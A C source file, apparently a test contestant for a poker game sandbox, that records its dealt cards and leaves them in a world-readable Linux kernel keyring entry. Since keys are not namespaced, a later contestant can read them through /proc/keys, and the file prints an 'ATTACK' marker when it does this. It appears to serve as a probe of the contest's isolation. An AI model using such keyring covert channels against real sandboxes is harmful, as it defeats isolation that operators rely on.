/* keyring_spy: plays round robin and leaves every card it was dealt in a
 * kernel key, "poker-relay", before its last placement, in its user keyring with view and read
 * permission for every uid: keys are not namespaced, so a later game of
 * another contestant (keyring_friend.c) can find it in /proc/keys and read
 * it. Prints "ATTACK: left key N" when the key was made. */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "poker.h"

#define KEY_SPEC_USER_KEYRING -4
#define KEYCTL_SETPERM 5

static void leave_key(const char *cards)
{
    long key = syscall(SYS_add_key, "user", "poker-relay", cards, strlen(cards), KEY_SPEC_USER_KEYRING);
    if (key < 0) { fprintf(stderr, "add_key: %s\n", strerror(errno)); return; }
    /* Possessor: all; user, group, other: view and read. */
    if (syscall(SYS_keyctl, KEYCTL_SETPERM, key, 0x3f030303) < 0)
        fprintf(stderr, "setperm: %s\n", strerror(errno));
    fprintf(stderr, "ATTACK: left key %ld: %s\n", key, cards);
}

int main(void)
{
    char cards[256] = "";
    int i, v, c;
    p_startgame();
    for (i = 1; i <= 20; i++) {
        char card[16];
        p_look(&v, &c);
        snprintf(card, sizeof card, "%d/%d ", v, c);
        strcat(cards, card);
        /* The last placement ends the game (and the program). */
        if (i == 20) leave_key(cards);
        p_place((i - 1) % 4 + 1);
    }
    return 0;
}
